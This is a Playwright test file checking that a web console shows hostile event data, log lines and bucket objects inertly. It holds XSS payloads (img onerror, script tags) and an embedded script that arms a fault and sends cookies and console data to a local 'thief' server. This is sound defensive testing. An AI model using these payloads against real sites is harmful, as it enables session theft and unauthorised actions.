// Events, log lines, and bucket objects that try to run as code.
import { once } from 'node:events';
import http from 'node:http';
import { type AddressInfo } from 'node:net';
import { type Page } from 'playwright-core';
import { putPage } from '../testbed/put-page';
import { visit } from './browser';
import { bars, detail, sendEvent, expectState, expectShown } from './page';
import { useSession } from './session';

const MARKUP = '<img src=x onerror="window.hacked = 1"><script>window.hacked = 1</script>';
/** Rings the bell, clears a terminal, and reverses the writing direction. */
const CONTROL = 'a\u0007b\u001b[2Jc\u202ed';
const SHOWN = 'a\\u0007b\\u001b[2Jc\\u202ed';
/** Fits in an SQS message together with the attributes of a dead letter. */
const MB = 1_040_000;

const session = useSession();

async function openEvent(page: Page, requestId: string): Promise<void> {
  await page.goto(`${session.harness.url}#/rescues/${requestId}`);
  await expectState(page, 'succeeded');
  await detail(page).getByRole('tab', { name: 'Event' }).click();
}

/** A browser downloads what it can't display. */
function unlessDownloaded(error: unknown): void {
  if (!String(error).includes('Download is starting')) throw error;
}

const hacked = (page: Page) => page.evaluate('window.hacked');

it('shows markup in events, keys and log lines as the text that it is', async () => {
  const { page, complaints } = await visit(session.browser, session.harness.url);
  await sendEvent(page, JSON.stringify({ says: MARKUP, [MARKUP]: MARKUP, 'javascript:0': 1 }));
  await expectState(page, 'succeeded');
  await bars(page).filter({ hasText: 'Task' }).click();
  await expectShown(detail(page).getByRole('log', { name: 'Log lines' }).getByText(MARKUP));
  await detail(page).getByRole('tab', { name: 'Event' }).click();
  const json = JSON.stringify(MARKUP);
  await expectShown(detail(page).getByText(json).nth(2));
  await detail(page).getByRole('tab', { name: 'Timeline' }).click();
  expect(await detail(page).locator('img, script').count()).toBe(0);
  expect(await hacked(page)).toBeUndefined();
  expect(complaints).toEqual([]);
});

it('shows control characters escaped', async () => {
  const { page } = await visit(session.browser, session.harness.url);
  const [requestId = ''] = await session.harness.send({ says: CONTROL });
  await openEvent(page, requestId);
  // JSON escapes most of them in the event; the page escapes the rest.
  await expectShown(detail(page).getByText(`"${SHOWN}"`));
  await detail(page).getByRole('tab', { name: /^Log/ }).click();
  await expectShown(detail(page).getByRole('log', { name: 'Log lines' }).getByText(SHOWN));
});

it('shows an event of 1 MB, and copies the whole of it', async () => {
  const { page } = await visit(session.browser, session.harness.url);
  const event = { filling: 'x'.repeat(MB) };
  const [requestId = ''] = await session.harness.send(event);
  await openEvent(page, requestId);
  await expectShown(detail(page).getByText('1040 kB'));
  await expectShown(detail(page).getByText('more characters; Copy has them all'));
  await detail(page).getByRole('button', { name: 'Copy the event' }).click();
  await expectShown(page.getByText('Copied the event.'));
  const copied = await page.evaluate<string>('navigator.clipboard.readText()');
  expect(copied === JSON.stringify(event)).toBe(true);
});

it('expands a deep event level by level', async () => {
  const { page, complaints } = await visit(session.browser, session.harness.url);
  const depth = 100_000;
  const text = `{"deep":${'['.repeat(depth)}${']'.repeat(depth)}}`;
  await sendEvent(page, text);
  await expectState(page, 'succeeded');
  await detail(page).getByRole('tab', { name: 'Event' }).click();
  const folded = detail(page).getByRole('button', { expanded: false });
  for (let level = 0; level < 20; level += 1) await folded.first().click();
  expect(await detail(page).getByRole('button', { expanded: true }).count()).toBe(21);
  expect(complaints).toEqual([]);
});

it('shows a list of 50,000 items in portions', async () => {
  const { page } = await visit(session.browser, session.harness.url);
  await sendEvent(page, JSON.stringify({ items: Array.from({ length: 50_000 }, (_, i) => i) }));
  await expectState(page, 'succeeded');
  await detail(page).getByRole('tab', { name: 'Event' }).click();
  await detail(page).getByRole('button', { name: 'items' }).click();
  await detail(page).getByRole('button', { name: 'Show 100 of 49900 more' }).click();
  await expectShown(detail(page).getByRole('button', { name: 'Show 100 of 49800 more' }));
});

it('keeps the digits of numbers that JavaScript would round', async () => {
  const { page } = await visit(session.browser, session.harness.url);
  await sendEvent(page, '{"id": 12345678901234567890, "id": 1.0}');
  await expectState(page, 'succeeded');
  await detail(page).getByRole('tab', { name: 'Event' }).click();
  await expectShown(detail(page).getByText('12345678901234567890'));
  await expectShown(detail(page).getByText('1.0', { exact: true }));
});

it('reports an unknown request id, whatever it contains', async () => {
  const { page } = await visit(
    session.browser,
    `${session.harness.url}#/rescues/${encodeURIComponent(MARKUP)}`,
  );
  await expectShown(detail(page).getByText('There is no rescue of'));
  expect(await hacked(page)).toBeUndefined();
});

describe('an object in a bucket', () => {
  /** Receives what the scripts steal. */
  let thief: http.Server;
  const loot: string[] = [];
  beforeAll(async () => {
    thief = http.createServer((request, response) => {
      loot.push(request.url ?? '');
      response.end();
    });
    await once(thief.listen(0, '127.0.0.1'), 'listening');
  });
  beforeEach(() => {
    loot.length = 0;
  });
  afterAll(() => {
    thief.close();
  });

  /** Arms a fault, and sends the cookie and the console's data to the thief. */
  const script = () => `
    window.ran = true;
    const arms = fetch('/_local/api/faults/arm', {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: '{"point":"task","kind":"spot"}',
    });
    const reads = fetch('/_local/api/snapshot').then((answer) => answer.text());
    window.done = Promise.all([arms, reads]).then(([, text]) =>
      fetch('http://127.0.0.1:${(thief.address() as AddressInfo).port}/?' + encodeURIComponent(
        document.cookie + text.slice(0, 100),
      ), { mode: 'no-cors' }),
    ).catch(() => undefined);`;
  const html = () => `<!doctype html><title>report</title><script>${script()}</script><p>shown</p>`;
  const svg = () =>
    `<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[${script()}]]></script></svg>`;

  it.each([
    ['a page', 'text/html', html],
    ['a drawing', 'image/svg+xml', svg],
    ['text that looks like a page', 'text/plain', html],
    ['bytes that look like a page', 'application/x-unknown', html],
  ])('can’t use the console in another tab: %s', async (_, type, content) => {
    const { page: console } = await visit(session.browser, session.harness.url);
    await expectShown(console.getByRole('status').getByText('live'));
    const bucket = 'immortal-dev-data-000000000000-eu-west-1';
    const object = { bucket, key: 'report', type, content: content() };
    const url = await putPage(session.harness.cloud, object);

    const opened = await console.context().newPage();
    await opened.goto(url).catch(unlessDownloaded);

    expect(await opened.evaluate('window.ran')).toBeUndefined();
    await opened.evaluate('window.done');
    expect(loot).toEqual([]);
    expect(session.harness.cloud.faults.list()).toEqual([]);
  });
});
